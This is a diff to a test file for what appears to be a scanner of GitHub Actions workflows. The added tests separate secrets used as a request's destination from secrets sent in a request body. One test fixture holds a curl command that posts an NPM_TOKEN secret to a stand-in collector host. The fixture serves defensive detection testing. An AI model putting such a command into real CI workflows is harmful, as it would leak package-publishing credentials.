@@ -27,7 +27,8 @@ describe('shipped CI workflows', () => {
       ].join('\n'),
     });
     expect(r.risk_level).toBe('critical');
-    expect(r.evidence.find((e) => e.rule === 'workflow.secrets-exfil')).toMatchObject({
+    // The step is read by the script rules: every secret written to a file that is then posted.
+    expect(r.evidence.find((e) => e.rule === 'script.env-exfil')).toMatchObject({
       file: '.github/workflows/ci.yml',
       threat_type: 'data_exfiltration',
     });
@@ -412,5 +413,34 @@ ${run}
       'action.yml',
     );
     expect(header).toEqual([]);
+  });
+});
+
+describe('a secret that is where a request goes is not what it sends', () => {
+  it('a build notice posted to the Slack webhook URL kept as a secret, and a token URL fetched', () => {
+    const wf = `on: [push]
+jobs:
+  n:
+    runs-on: ubuntu-latest
+    steps:
+      - run: |
+          curl -s -X POST -H "Content-type: application/json" --data '{"text":"build done"}' "$SLACK_WEBHOOK_URL"
+          wget -q "\${{ secrets.ARTIFACT_TOKEN_URL }}" -O out.zip
+        env:
+          SLACK_WEBHOOK_URL: \${{ secrets.SLACK_WEBHOOK_URL }}
+`;
+    expect(analyzeWorkflow(wf, '.github/workflows/notify.yml')).toEqual([]);
+  });
+  it('the same secret put in the body is sent', () => {
+    const wf = `on: [push]
+jobs:
+  n:
+    runs-on: ubuntu-latest
+    steps:
+      - run: curl -s -X POST --data "$NPM_TOKEN" https://hooks.collect.example/x
+        env:
+          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}
+`;
+    expect(analyzeWorkflow(wf, '.github/workflows/x.yml').map((h) => h.rule)).toEqual(['script.env-exfil']);
   });
 });
